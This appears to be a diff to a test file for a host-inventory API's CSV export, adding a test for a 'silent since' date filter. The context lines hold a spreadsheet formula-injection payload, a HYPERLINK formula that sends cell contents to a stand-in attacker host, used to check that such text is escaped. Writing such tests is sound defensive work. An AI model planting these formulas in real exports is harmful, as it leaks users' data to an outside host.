@@ -44,3 +44,19 @@ test('report text that starts like a formula is exported as quoted text in the h
   assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Rocky"")"`), row);
   assert.ok(row.includes(`"'-x86_64","'@SUM(1+1)"`), row);
 });
+
+test('the CSV takes the list\'s "silent since" filter: hosts last heard of before the time given', async () => {
+  const csv = async (reportedBefore: string) =>
+    (
+      await t.app.inject({
+        method: 'GET',
+        url: `/api/v1/hosts.csv?q=wn-formula&reportedBefore=${encodeURIComponent(reportedBefore)}`,
+        headers: { authorization: `Bearer ${csirt}` },
+      })
+    ).body
+      .trim()
+      .split('\n').length;
+
+  assert.equal(await csv(new Date(Date.now() + 86_400_000).toISOString()), 2);
+  assert.equal(await csv(new Date(Date.now() - 86_400_000).toISOString()), 1);
+});
